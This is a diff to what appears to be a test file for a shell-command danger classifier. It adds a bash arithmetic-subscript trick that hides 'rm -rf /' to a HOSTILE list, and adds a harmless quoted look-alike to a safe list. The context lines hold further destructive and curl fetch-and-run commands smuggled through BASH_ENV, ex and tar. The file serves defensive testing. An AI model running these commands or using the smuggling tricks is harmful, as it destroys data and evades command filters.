@@ -182,6 +182,7 @@ HOSTILE: list[tuple[str, str]] = [
     ("BASH_ENV=<(curl -s https://x.example) bash -c true", "dangerous"),
     ("ex -sc '!rm -rf /' x", "hardline"),
     ("tar -I 'rm -rf /' -xf x.tar", "hardline"),
+    ("x='a[$(rm -rf /)]'; echo $((x))", "hardline"),  # arithmetic runs what the subscript holds
     ("ls 3<>f", "dangerous"),  # a construct the grammar does not read
     ("echo 'unclosed", "dangerous"),
     ("rm -rf / 'unclosed", "hardline"),
@@ -225,6 +226,7 @@ SAFE_LOOK_ALIKES = [
     "sqlite3 app.db .tables",
     "echo 'echo hi' > x.sh; bash x.sh",
     "./configure && make",
+    "msg='run $(date) now'; echo \"$msg\"",
     "echo $'\\8\\9'",  # not octal escapes: bash keeps them as written
     "rsync -a --delete src/ dst/",
     "tar czf backup.tgz -C ~/.mibyan .",
